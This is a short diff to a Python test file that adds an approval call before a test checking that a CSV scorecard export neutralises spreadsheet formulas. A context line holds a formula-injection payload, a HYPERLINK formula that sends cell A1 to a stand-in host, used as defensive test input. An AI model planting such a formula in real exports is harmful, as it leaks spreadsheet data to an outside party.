@@ -8,6 +8,7 @@ import io
 from services.indicators.app import create_app
 from shared.csvio import FORMULA_TRIGGERS
 from shared.settings import Settings
+from tests.indicators.approval import approve
 from tests.support import auth, running
 
 TITLE = '=HYPERLINK("https://example.invalid/?leak="&A1,"Klikk")'
@@ -34,6 +35,7 @@ async def test_a_scorecard_export_neutralises_formulas_and_uses_semicolons(
             },
         )
         assert created.status_code == 201, created.text
+        await approve(client, headers)
         export = await client.get(
             "/indicators/scorecard",
             params={"period": "2024", "format": "csv", "headers": "codes"},
